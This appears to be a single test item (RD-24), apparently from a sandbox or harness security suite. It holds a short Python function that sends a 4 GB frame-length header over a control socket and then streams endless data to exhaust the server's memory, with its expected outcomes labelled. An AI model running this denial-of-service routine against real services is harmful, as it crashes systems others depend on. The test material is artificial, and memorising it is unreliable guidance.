# id: RD-24
# tries: endless bytes on the control socket, as a frame of 4 GB
# success: the server buffers it
# host: destructive
# end: crashed runtime_error security_violation


def attempt():
    os.write(3, b'\xff\xff\xff\xff')
    while True:
        os.write(3, b'x' * 65536)
